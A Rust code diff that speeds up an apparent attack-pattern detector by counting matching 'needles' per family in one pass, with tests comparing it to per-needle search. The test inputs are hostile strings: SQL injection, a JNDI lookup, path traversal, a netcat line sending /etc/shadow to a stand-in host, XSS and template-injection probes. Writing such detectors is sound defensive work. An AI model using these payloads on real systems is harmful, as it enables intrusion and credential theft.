@@ -9,10 +9,67 @@ pub struct Family {
 }
 
 impl Family {
-    /// Number of needles found in `lower` (each counted once).
+    /// Number of needles found in `lower` (each counted once). [`family_hits`] gives the same
+    /// for all families in one pass.
+    #[cfg(test)]
     pub fn hits(&self, lower: &str) -> usize {
         self.needles.iter().filter(|n| lower.contains(*n)).count()
     }
+}
+
+/// Room in [`family_hits`]'s bitset; a test checks the families fit.
+const MAX_NEEDLES: usize = 512;
+
+/// Every needle of every family, grouped by first byte.
+struct Index {
+    /// `needles[by_first[b].0..by_first[b].1]` start with byte `b`.
+    by_first: [(u16, u16); 256],
+    /// (family, needle), sorted by the needle's first byte.
+    needles: Vec<(u8, &'static [u8])>,
+}
+
+fn index() -> &'static Index {
+    static INDEX: std::sync::OnceLock<Index> = std::sync::OnceLock::new();
+    INDEX.get_or_init(|| {
+        let mut needles: Vec<(u8, &'static [u8])> = FAMILIES
+            .iter()
+            .enumerate()
+            .flat_map(|(f, fam)| fam.needles.iter().map(move |n| (f as u8, n.as_bytes())))
+            .filter(|(_, n)| !n.is_empty())
+            .take(MAX_NEEDLES)
+            .collect();
+        needles.sort_by_key(|(_, n)| n[0]);
+        let mut by_first = [(0u16, 0u16); 256];
+        for (i, (_, n)) in needles.iter().enumerate() {
+            let slot = &mut by_first[usize::from(n[0])];
+            if slot.1 == 0 {
+                slot.0 = i as u16;
+            }
+            slot.1 = i as u16 + 1;
+        }
+        Index { by_first, needles }
+    })
+}
+
+/// Number of distinct needles of each family found in `lower`, in [`FAMILIES`] order: one pass
+/// over the text instead of one substring search per needle.
+pub fn family_hits(lower: &str) -> [usize; FAMILIES.len()] {
+    let idx = index();
+    let mut found = [0u64; MAX_NEEDLES / 64];
+    let bytes = lower.as_bytes();
+    for (i, &b) in bytes.iter().enumerate() {
+        let (start, end) = idx.by_first[usize::from(b)];
+        for j in usize::from(start)..usize::from(end) {
+            if found[j / 64] & (1 << (j % 64)) == 0 && bytes[i..].starts_with(idx.needles[j].1) {
+                found[j / 64] |= 1 << (j % 64);
+            }
+        }
+    }
+    let mut hits = [0usize; FAMILIES.len()];
+    for (j, &(family, _)) in idx.needles.iter().enumerate() {
+        hits[usize::from(family)] += usize::from(found[j / 64] & (1 << (j % 64)) != 0);
+    }
+    hits
 }
 
 /// The families, in feature order.
@@ -345,6 +402,29 @@ pub fn has_event_handler(lower: &str) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn every_needle_fits_the_bitset() {
+        let n: usize = FAMILIES.iter().map(|f| f.needles.len()).sum();
+        assert!(n <= MAX_NEEDLES, "{n} needles");
+        assert_eq!(index().needles.len(), n);
+    }
+
+    #[test]
+    fn one_pass_counts_equal_one_search_per_needle() {
+        for text in [
+            "",
+            "1' union select password from users where 1=1 --",
+            "${jndi:ldap://x/a} ../../etc/passwd; cat /etc/shadow | nc x 1",
+            "<img src=x onerror=alert(1)> *)(uid=*) {{7*7}} \\u00e9t\\u00e9",
+            "\u{1}caf\u{e9} 保持する o:+8:\"x\"",
+        ] {
+            let one_pass = family_hits(text);
+            for (f, fam) in FAMILIES.iter().enumerate() {
+                assert_eq!(one_pass[f], fam.hits(text), "{} on {text:?}", fam.name);
+            }
+        }
+    }
 
     #[test]
     fn event_handlers_are_found_and_prose_is_not() {
